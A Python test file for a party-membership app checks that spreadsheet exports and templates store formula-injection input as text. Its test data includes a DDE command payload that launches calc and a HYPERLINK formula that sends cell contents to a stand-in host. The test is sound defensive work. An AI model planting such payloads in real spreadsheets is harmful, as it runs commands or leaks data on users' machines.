"""Issue 31, 2: no formula leaves the program. Every workbook and template the program writes,
filled with values a hostile clerk typed (=cmd|' /C calc'!A0, =HYPERLINK(…), +1+1, -2+3, @SUM(1),
a tab or CR first, #N/A, a problem category =1+1), holds them as text: 0 formula cells."""

from __future__ import annotations

import re
import zipfile
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from desktop.cli import main
from models.actor import SYSTEM, Actor
from models.db import open_database
from models.periods import quarter
from models.services import evaluation as ev
from models.services import members as ms
from models.services import pairing as ps
from models.services import supervision as sv
from models.services.pairing import PartyRef
from models.supervision import ProblemSource, Severity
from reports import evaluation_xlsx, pairing_xlsx, quarterly, roster
from tests.evaluation_helpers import add_members
from tests.factories import member_values
from tests.pairing_helpers import build_pairing_county

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://example.invalid/?"&A1,"点此查看")'
HOSTILE = [CALC, LINK, "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "#N/A", "=1+1"]
#: a name or an address is one line: no tab or CR there (docs/input-checks.md)
ONE_LINE = [v for v in HOSTILE if v[0] not in "\t\r"]
KINDS = ["orgs", "members", "tasks", "problems", "pairings", "activities", "points"]


def formula_cells(path: Path) -> list[str]:
    """Every cell of the file written as a formula, by openpyxl's reading and by the XML itself."""
    found = []
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("=")
                                             and cell.data_type != "s"):
                    found.append(f"{path.name}!{ws.title}!{cell.coordinate}")
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<(?:\w+:)?f[\s>/]", z.read(name)):
                found.append(f"{path.name}:{name} has <f>")
    return found


def texts(path: Path) -> set[str]:
    wb = load_workbook(path)
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def test_every_export_and_template_holds_hostile_text_as_text(sqlite_path, tmp_path, capsys):
    db = open_database(sqlite_path)
    actor = Actor("测试员", "管理员")
    with db.session() as s:
        pc = build_pairing_county(s, actor)
        county = pc.county
        s.commit()
    run = lambda *argv: main(["--db", str(sqlite_path), *argv])  # noqa: E731
    assert run("settings", "set", "problem_categories", "组织生活、=1+1、@SUM(1)") == 0
    with db.session() as s:
        for i, text in enumerate(ONE_LINE, start=1):
            ms.create_member(s, actor, member_values(i, job=text, address=text, joined_on=date(2020, 7, 1),
                                                     full_on=date(2021, 7, 1)))
        for i, text in enumerate(HOSTILE, start=1):
            sv.create_problem(s, actor, org_id=county.village.id, found_on=date(2026, 3, 1 + i),
                              source=ProblemSource.INSPECTION, category="=1+1" if i % 2 else "@SUM(1)",
                              description=text, severity=Severity.ORDINARY)
        p = ps.create_pairing(s, actor, type="城乡联建", leads=[PartyRef("org", pc.urban.id)],
                              assisted=[PartyRef("org", pc.villages[1].id)], start_on=date(2026, 1, 1),
                              goals=CALC, name=LINK)
        for i, text in enumerate(HOSTILE, start=1):
            ps.add_activity(s, actor, p.id, date(2026, 2, i), "走访慰问", text, funds="100", project=text, people=3)
        ev.ensure_builtin_schemes(s, actor)
        add_members(s, actor, 3, start=50)
        rnd = ev.open_round(s, actor, ev.find_scheme(s, "民主评议党员"), "2025", county.east)
        for sheet_row in ev.sheet_rows(s, rnd.id)[:2]:
            ev.record_self_assessment(s, actor, sheet_row.sheet_id, None, True, CALC)
        s.commit()
        written = [
            roster.export_orgs(s, actor, tmp_path / "orgs.xlsx") and tmp_path / "orgs.xlsx",
            roster.export_members(s, actor, tmp_path / "members.xlsx") and tmp_path / "members.xlsx",
            quarterly.export_quarterly(s, SYSTEM, tmp_path / "quarterly.xlsx", quarter("2026Q1"), CALC,
                                       quarterly.SHEETS, reported=date(2026, 4, 8)),
        ]
        pairing_xlsx.export_pairings(s, actor, tmp_path / "pairings.xlsx")
        evaluation_xlsx.export_fill_sheets(s, SYSTEM, rnd.id, tmp_path / "fill.xlsx")
        evaluation_xlsx.export_results(s, SYSTEM, rnd.id, tmp_path / "results.xlsx")
        written += [tmp_path / "pairings.xlsx", tmp_path / "fill.xlsx", tmp_path / "results.xlsx"]
    db.dispose()
    assert run("export", "pairings", "--out", str(tmp_path / "pairings-cli.xlsx")) == 0
    assert run("export", "quarterly", "--quarter", "2026Q1", "--out", str(tmp_path / "quarterly-cli.xlsx")) == 0
    assert run("audit", "--out", str(tmp_path / "audit.xlsx")) == 0
    written += [tmp_path / "pairings-cli.xlsx", tmp_path / "quarterly-cli.xlsx", tmp_path / "audit.xlsx"]
    for kind in KINDS:
        assert run("template", kind, "--out", str(tmp_path / f"template-{kind}.xlsx")) == 0
        written.append(tmp_path / f"template-{kind}.xlsx")
    capsys.readouterr()

    assert [f for path in written for f in formula_cells(path)] == []
    seen = set().union(*(texts(path) for path in written))
    # every hostile value is in some file, as the text typed (XML reads a CR as a line feed)
    assert {v.replace("\r", "\n") for v in HOSTILE} <= seen
    quarterly_texts = texts(tmp_path / "quarterly.xlsx")
    assert {CALC, LINK, "=1+1"} <= quarterly_texts
    assert {CALC, LINK} <= texts(tmp_path / "pairings.xlsx")
    assert "=1+1" in texts(tmp_path / "template-problems.xlsx")
    assert CALC in texts(tmp_path / "results.xlsx")
